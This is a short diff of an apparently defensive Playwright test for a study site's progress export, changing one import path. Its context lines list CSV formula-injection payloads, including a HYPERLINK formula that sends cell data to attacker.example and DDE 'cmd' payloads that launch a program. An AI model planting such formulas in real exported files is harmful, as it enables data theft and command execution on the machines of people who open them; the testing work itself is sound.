@@ -21,7 +21,7 @@ from playwright.sync_api import expect
 from pipeline.stats.csvfile import read_table
 from schema.progress import PROGRESS_VERSION
 from tests.kit.progress import DAY1, KEY, bank_by_id, practice_site, stored
-from tests.sitekit import guarded_context, page_of
+from tests.kit.studysite import guarded_context, page_of
 
 WHEN = "2026-11-30T12:00:00.000Z"
 FORMULAS = ['=HYPERLINK("http://attacker.example/?"&A1,"click")', "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
